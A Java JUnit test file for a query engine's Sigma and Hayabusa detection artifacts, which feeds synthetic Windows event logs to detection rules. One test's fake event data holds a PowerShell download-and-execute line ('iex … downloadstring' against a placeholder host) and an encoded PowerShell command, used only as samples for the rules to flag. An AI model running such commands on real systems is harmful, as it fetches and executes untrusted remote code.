package org.minivql.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.minivql.QueryOptions;
import org.minivql.Rows;
import org.minivql.Vql;
import org.minivql.accessor.Accessors;
import org.minivql.accessor.FileRoots;
import org.minivql.accessor.standard.StandardAccessors;
import org.minivql.artifact.ArtifactCalls;
import org.minivql.artifact.Repository;
import org.minivql.format.FormatException;
import org.minivql.format.Json;
import org.minivql.value.Dict;

/** The artifacts over rules and logs, and the rules that come with the engine. */
class HayabusaTest {
  private static final long NOON = 1_772_452_800;
  private static final String DEFENDER = "Microsoft-Windows-Windows Defender%4Operational";

  @TempDir private Path folder;

  private final List<String> log = new ArrayList<>();

  private void event(String file, String provider, long id, long time, Object data)
      throws IOException {
    Dict system =
        Dict.of(
            "Provider",
            Dict.of("Name", provider),
            "EventID",
            Dict.of("Value", id),
            "Keywords",
            1L,
            "TimeCreated",
            Dict.of("SystemTime", NOON + time + 0.5),
            "EventRecordID",
            time + 1,
            "Channel",
            file,
            "Computer",
            "WS-1");
    Dict row = Dict.of("System", system, "EventData", data, "Message", "");
    Files.writeString(
        folder.resolve(file + ".evtx.jsonl"),
        Json.text(row) + "\n",
        StandardOpenOption.CREATE,
        StandardOpenOption.APPEND);
  }

  private List<Dict> run(String query, Path root) {
    Repository repository = Repository.standard();
    Vql vql = Vql.builder().namespace(new ArtifactCalls(scope -> repository)).build();
    log.clear();
    QueryOptions options =
        QueryOptions.defaults()
            .withService(
                Accessors.class, new StandardAccessors(FileRoots.below(List.of(root), root)))
            .withLog(line -> log.add(line.text()));
    try (Rows rows = vql.compile(query).rows(options)) {
      return rows.stream().toList();
    }
  }

  private List<Dict> hayabusa(String... arguments) {
    return run(
        "SELECT * FROM Artifact.Windows.Hayabusa.Rules(ROOT='"
            + folder
            + "'"
            + (arguments.length == 0 ? "" : ", " + String.join(", ", arguments))
            + ")",
        folder);
  }

  private List<String> titles(String... arguments) {
    List<Dict> rows = hayabusa(arguments);
    assertThat(log.stream().filter(line -> !line.startsWith("INFO:")).toList())
        .allMatch(line -> line.startsWith("Unable to open file"));
    return rows.stream().map(row -> (String) row.get("Title")).toList();
  }

  private void threats() throws IOException {
    for (int i = 0; i < 3; i++) {
      event(
          DEFENDER,
          "Microsoft-Windows-Windows Defender",
          1116,
          i * 100L,
          Dict.of("Threat Name", "T" + i, "Severity Name", "Severe", "Path", "c:\\x"));
    }
  }

  @Test
  void aDetectionIsARow() throws IOException {
    threats();
    event(DEFENDER, "Microsoft-Windows-Windows Defender", 1000, 0, Dict.EMPTY);

    List<Dict> rows = hayabusa("RuleTitleFilter='Found A Threat'").subList(0, 1);

    assertThat(Json.text(rows))
        .isEqualTo(
            "[{\"Timestamp\":\"2026-03-02T12:00:00.5Z\",\"Computer\":\"WS-1\",\"Channel\":\""
                + DEFENDER
                + "\",\"EID\":1116,\"Level\":\"critical\",\"Title\":\"Defender Found A Threat\","
                + "\"RecordID\":1,\"Details\":\"Threat: T0 ¦ Severity: Severe ¦ User:"
                + " %DetectionUser% ¦ Path: c:\\\\x\",\"_Event\":{\"System\":{\"Provider\":{"
                + "\"Name\":\"Microsoft-Windows-Windows Defender\"},\"EventID\":{\"Value\":1116},"
                + "\"TimeCreated\":{\"SystemTime\":1772452800.5},\"EventRecordID\":1,\"Channel\":\""
                + DEFENDER
                + "\",\"Computer\":\"WS-1\"},\"EventData\":{\"Threat Name\":\"T0\","
                + "\"Severity Name\":\"Severe\",\"Path\":\"c:\\\\x\"},\"Message\":\"\"},"
                + "\"Enrichment\":null,\"_Source\":\"Windows.Hayabusa.Rules\"}]");
  }

  @Test
  void timesAreBounds() throws IOException {
    threats();
    assertThat(titles("DateAfter='2026-03-02T12:01:40Z'")).hasSize(2);
    assertThat(titles("DateBefore='2026-03-02T12:01:40Z'")).hasSize(1);
    assertThat(titles("DateAfter='2026-03-02T12:01:00Z', DateBefore='2026-03-02T12:02:00Z'"))
        .hasSize(1);
    assertThat(titles()).hasSize(3);
  }

  @Test
  void levelsStatusesAndTitlesSelectRules() throws IOException {
    threats();
    event("Security", "Microsoft-Windows-Eventlog", 1102, 0, Dict.EMPTY);
    event("Security", "Microsoft-Windows-Security-Auditing", 4720, 0, Dict.EMPTY);
    event(
        "Microsoft-Windows-TaskScheduler%4Operational",
        "Microsoft-Windows-TaskScheduler", 106, 0, Dict.of("TaskName", "\\run.ps1"));

    assertThat(titles("RuleLevel='Critical'")).hasSize(3).containsOnly("Defender Found A Threat");
    assertThat(titles("RuleLevel='Critical and High'")).hasSize(4).contains("Event Log Cleared");
    assertThat(titles("RuleStatus='Stable'")).doesNotContain("Task Registered By A Script");
    assertThat(titles("RuleStatus='Stable and Experimental', RuleTitleFilter='^Task'"))
        .containsExactly("Task Registered By A Script");
    assertThat(titles("RuleTitleFilter='Account'")).isEmpty();
    assertThat(titles("RuleTitleFilter='Account', RuleExclusions=[]"))
        .containsExactly("Account Created");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '!',
      value = {
        "RuleLevel='Critical'                          ! critical-stable",
        "RuleLevel='Critical and High'                 ! critical-stable high-experimental",
        "RuleLevel='Critical, High, and Medium'        ! critical-stable high-experimental medium-test plain",
        "RuleLevel='Critical, High, Medium, and Low'   ! critical-stable high-experimental medium-test low-stable plain",
        "RuleLevel='All'                               ! critical-stable high-experimental medium-test low-stable informational-test plain",
        "RuleStatus='Stable'                           ! critical-stable low-stable",
        "RuleStatus='Stable and Experimental'          ! critical-stable high-experimental low-stable",
        "RuleStatus='Stable and Test'                  ! critical-stable medium-test low-stable informational-test",
        "RuleStatus='All Rules'                        ! critical-stable high-experimental medium-test low-stable informational-test plain",
        "RuleTitleFilter='^(LOW|plain)'                ! low-stable plain",
        "RuleExclusions='RuleTitleRegex,Reason\\nHIGH,noise\\n-test$,noise' ! critical-stable low-stable plain",
      })
  void choicesSelectRules(String argument, String expected) throws IOException {
    event(DEFENDER, "D", 1, 0, Dict.EMPTY);
    StringBuilder rules = new StringBuilder();
    for (String title :
        List.of(
            "critical-stable",
            "high-experimental",
            "medium-test",
            "low-stable",
            "informational-test",
            "plain")) {
      String[] parts = title.split("-");
      rules.append("title: ").append(title).append('\n');
      if (parts.length > 1) {
        rules.append("level: " + parts[0] + "\nstatus: " + parts[1] + "\n");
      }
      rules.append("logsource: {product: windows, service: windefend}\n");
      rules.append("detection: {s: {EventID: 1}}\n---\n");
    }

    List<Dict> rows =
        run(
            "SELECT Title FROM Artifact.Windows.Sigma.Base(ROOT='"
                + folder
                + "', SigmaRules='"
                + rules.substring(0, rules.length() - 5).replace("\n", "\\n")
                + "', "
                + argument
                + ")",
            folder);

    assertThat(rows.stream().map(row -> (String) row.get("Title")))
        .containsExactly(expected.split(" "));
  }

  @Test
  void debugShowsEveryEventWithEveryRule() throws IOException {
    event(DEFENDER, "D", 1, 0, Dict.EMPTY);
    event(DEFENDER, "D", 2, 1, Dict.EMPTY);
    String query =
        "SELECT EID FROM Artifact.Windows.Sigma.Base(ROOT='"
            + folder
            + "', Debug=%s, SigmaRules='title: T\\nlogsource: {service: windefend}\\ndetection:"
            + " {s: {EventID: 1}}')";

    assertThat(run(query.formatted("FALSE"), folder)).hasSize(1);
    assertThat(run(query.formatted("TRUE"), folder)).hasSize(2);
  }

  @Test
  void detailsAreTheRulesOwnOrThoseOfTheEventOrItsText() throws IOException {
    event(DEFENDER, "Microsoft-Windows-Windows Defender", 1116, 0, Dict.of("Threat Name", "T"));
    event(DEFENDER, "Other", 2, 1, Dict.of("A", 1L));
    String query =
        "SELECT Details FROM Artifact.Windows.Sigma.Base(ROOT='"
            + folder
            + "', SigmaRules='title: T\\nlogsource: {service: windefend}\\n%sdetection:"
            + " {s: {EventID|gt: 0}}')";

    assertThat(run(query.formatted(""), folder))
        .extracting(row -> Json.text(row.get("Details")))
        .containsExactly(
            "\"Threat: T ¦ Severity: %SeverityName% ¦ User: %DetectionUser% ¦ Path: %Path%\"",
            "{\"A\":1}");
    assertThat(run(query.formatted("details: own %A%\\n"), folder))
        .extracting(row -> row.get("Details"))
        .containsExactly("own %A%", "own 1");
  }

  @Test
  void theArtifactImportsItsBase() {
    assertThat(Repository.standard().get("Windows.Hayabusa.Rules").imports())
        .containsExactly("Windows.Sigma.Base");
  }

  @Test
  void theOwnRulesFindWhatTheyAreFor() throws IOException {
    String auditing = "Microsoft-Windows-Security-Auditing";
    String powershell = "Microsoft-Windows-PowerShell";
    event(DEFENDER, "D", 1119, 0, Dict.of("Threat Name", "T"));
    event(DEFENDER, "D", 5001, 0, Dict.EMPTY);
    event(DEFENDER, "D", 5007, 0, Dict.of("New Value", "HKLM\\x\\Exclusions\\Paths = 0"));
    event(DEFENDER, "D", 5007, 0, Dict.of("New Value", "HKLM\\x\\Scan = 0"));
    event("Security", auditing, 4732, 0, Dict.of("TargetSid", "S-1-5-32-544"));
    event("Security", auditing, 4732, 0, Dict.of("TargetSid", "S-1-5-32-545"));
    for (int i = 0; i < 6; i++) {
      event("Security", auditing, 4625, i * 10L, Dict.of("TargetUserName", "eve"));
    }
    event("System", "Microsoft-Windows-Eventlog", 104, 0, Dict.EMPTY);
    event("System", "Service Control Manager", 7045, 0, Dict.of("ImagePath", "C:\\Temp\\run.exe"));
    event("System", "Service Control Manager", 7045, 0, Dict.of("ImagePath", "C:\\Windows\\a.exe"));
    event(
        powershell + "%4Operational",
        powershell,
        4104,
        0,
        Dict.of("ScriptBlockText", "iex (New-Object Net.WebClient).downloadstring('http://x')"));
    event(powershell + "%4Operational", powershell, 4104, 0, Dict.of("ScriptBlockText", "ls"));
    event(
        "Microsoft-Windows-Sysmon%4Operational",
        "Microsoft-Windows-Sysmon",
        1,
        0,
        Dict.of(
            "Image",
            "C:\\Windows\\System32\\PowerShell.exe",
            "CommandLine",
            "powershell.exe -enc " + "SQBFAFgA".repeat(6)));

    assertThat(titles("RuleExclusions=[]"))
        .containsExactlyInAnyOrder(
            "Defender Could Not Remove A Threat",
            "Defender Protection Switched Off",
            "Defender Protection Switched Off",
            "Account Added To Administrators",
            "Burst Of Failed Logons",
            "Burst Of Failed Logons",
            "System Log Cleared",
            "Service Runs From An Unusual Place",
            "Suspicious PowerShell Script",
            "PowerShell Started With An Encoded Command");
  }

  @Test
  void rulesMayComeFromAFolder() throws IOException {
    threats();
    Files.createDirectories(folder.resolve("mine/deep"));
    Files.writeString(
        folder.resolve("mine/deep/a.yml"),
        "title: Mine\nlogsource: {product: windows, service: windefend}\n"
            + "detection: {s: {ThreatName: T1}}\nlevel: low\n");
    Files.writeString(folder.resolve("mine/b.yaml"), "title: Broken\n");

    List<Dict> rows = hayabusa("RuleFolder='" + folder.resolve("mine") + "'");

    assertThat(rows).extracting(row -> row.get("Title")).containsExactly("Mine");
    assertThat(log)
        .contains("sigma: Error parsing: b.yaml:1:1: No logsource specified in rule 'Broken'");
  }

  @Test
  void theOwnRulesHaveNoProblems() {
    List<Dict> rows =
        run(
            "LET Own <= SELECT Rule FROM sigma_rules() SELECT * FROM sigma(rules=Own.Rule,"
                + " log_sources=sigma_log_sources(`*/a/*`={ SELECT * FROM scope() }))",
            folder);

    assertThat(rows).isEmpty();
    assertThat(log).hasSize(2).allMatch(line -> line.startsWith("INFO:"));
    assertThat(log.get(0)).contains("(from 13)");
  }

  @Test
  void realLogsGiveTheServersRows() throws IOException, FormatException {
    Path data = sharedDirectory().resolve("data/evtx").toAbsolutePath().normalize();
    Path golden =
        Path.of(
                System.getProperty(
                    "vql.conformance.dir", sharedDirectory().resolve("conformance").toString()))
            .resolve("golden/cases/sigma.json");
    Assumptions.assumeTrue(Files.isRegularFile(golden), () -> "no golden rows: " + golden);
    Dict statement =
        (Dict) ((List<?>) ((Dict) Json.parse(Files.readString(golden))).get("statements")).get(0);

    List<Dict> rows =
        run(
            "SELECT * FROM Artifact.Windows.Sigma.EventLogs(EventLogDirectory='"
                + data
                + "', InlineSigmaRules=read_file(filename='"
                + data.resolve("proc_creation_win_whoami_as_system.yml")
                + "'))",
            data);

    assertThat(Json.text(rows)).isEqualTo(Json.text(statement.get("rows")));
  }

  private static Path sharedDirectory() {
    return Path.of(System.getProperty("vql.shared.dir", "../shared"));
  }

  @Test
  void realLogsMeetARealRule() throws IOException {
    Path data = sharedDirectory().resolve("data/evtx").toAbsolutePath().normalize();
    Assumptions.assumeTrue(Files.isDirectory(data), () -> "no event logs: " + data);

    List<Dict> rows =
        run(
            "SELECT System.EventRecordID AS ID, _Match.search_results AS R"
                + " FROM Artifact.Windows.Sigma.EventLogs(EventLogDirectory='"
                + data
                + "', InlineSigmaRules=read_file(filename='"
                + data.resolve("proc_creation_win_whoami_as_system.yml")
                + "'))",
            data);

    assertThat(Json.text(rows))
        .isEqualTo(
            "[{\"ID\":196375,\"R\":{\"process_creation\":true,\"selection_img\":true,"
                + "\"selection_user\":true}}]");
  }
}
